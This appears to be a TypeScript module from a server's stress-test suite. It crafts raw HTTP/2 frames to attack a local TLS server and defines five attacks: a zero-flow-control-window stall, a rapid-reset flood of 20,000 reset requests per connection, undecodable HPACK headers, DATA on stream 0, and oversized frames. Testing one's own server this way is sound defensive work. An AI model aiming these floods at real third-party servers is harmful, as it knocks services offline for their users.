/** Attacks over HTTP/2: frames made by hand, since a client's library would not send them. */

import { connect, type TLSSocket } from 'node:tls';
import type { Attack } from './attack.ts';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
/** RFC 9113, section 6. */
const TYPE = { data: 0, headers: 1, reset: 3, settings: 4 } as const;
/** END_STREAM and END_HEADERS. */
const WHOLE = 0x05;
/** SETTINGS_INITIAL_WINDOW_SIZE, of 0 bytes. */
const WINDOW_OF_NOTHING = Buffer.from([0, 4, 0, 0, 0, 0]);
const CANCEL = Buffer.from([0, 0, 0, 8]);
const LONGEST_FRAME_BYTES = 16_384;

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A GET in HPACK (RFC 7541): two indexed fields, two literals with indexed names. */
function headers(stream: number, path: string): Buffer {
  const literal = (name: number, value: string) => [name, value.length, ...Buffer.from(value)];
  return frame(TYPE.headers, WHOLE, stream, Buffer.from([0x82, 0x87, ...literal(4, path), ...literal(1, 'localhost')]));
}

const streamOf = (request: number) => 2 * request + 1;
const range = (count: number) => Array.from({ length: count }, (_, at) => at);

/** Opens connections, and sends each the same after the preface; does not read where `reads` is false. */
function sending(
  connections: number,
  bytesOf: (lastSeq: number, share: number) => Buffer,
  settings?: Buffer,
  reads = true,
) {
  return async ({ port, lastSeq, share }: Parameters<Attack['begin']>[0]) => {
    const bytes = Buffer.concat([PREFACE, frame(TYPE.settings, 0, 0, settings), bytesOf(lastSeq, share)]);
    const sockets: TLSSocket[] = [];
    for (const _ of range(Math.ceil(connections * share))) {
      const socket = connect({ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
      // The server may cut it off.
      socket.on('error', () => {});
      sockets.push(socket);
      await new Promise((resolve) => socket.once('secureConnect', resolve).once('close', resolve));
      if (reads) socket.resume();
      socket.write(bytes);
    }
    return () => {
      for (const socket of sockets) socket.destroy();
    };
  };
}

export const http2Attacks: readonly Attack[] = [
  {
    name: 'h2-no-window',
    summary: '1,500 polls on one connection for all that the ring holds, with a window of 0 bytes',
    isTls: true,
    begin: sending(
      1,
      (lastSeq, share) =>
        Buffer.concat(
          range(Math.ceil(1_500 * share)).map((at) => headers(streamOf(at), `/polling?since=${lastSeq - 4_000 + at}`)),
        ),
      WINDOW_OF_NOTHING,
    ),
  },
  {
    name: 'h2-resets',
    summary: '8 connections, each with 20,000 requests that are reset at once',
    isTls: true,
    begin: sending(8, (lastSeq, share) =>
      Buffer.concat(
        range(Math.ceil(20_000 * share)).flatMap((at) => [
          headers(streamOf(at), `/sse?since=${lastSeq - 4_000}`),
          frame(TYPE.reset, 0, streamOf(at), CANCEL),
        ]),
      ),
    ),
  },
  {
    name: 'h2-broken-heads',
    summary: '600 connections that end with a head that HPACK can not read',
    isTls: true,
    // An index beyond both tables.
    begin: sending(600, () => frame(TYPE.headers, WHOLE, 1, Buffer.from([0xff, 0xff, 0x7f]))),
  },
  {
    name: 'h2-data-on-stream-0',
    summary: '600 connections that end with DATA on stream 0',
    isTls: true,
    begin: sending(600, () => frame(TYPE.data, 0, 0, Buffer.from('hello'))),
  },
  {
    name: 'h2-oversized-frames',
    summary: '600 connections that end with a frame above the largest size',
    isTls: true,
    begin: sending(600, () => frame(TYPE.data, 0, 1, Buffer.alloc(LONGEST_FRAME_BYTES + 1))),
  },
];
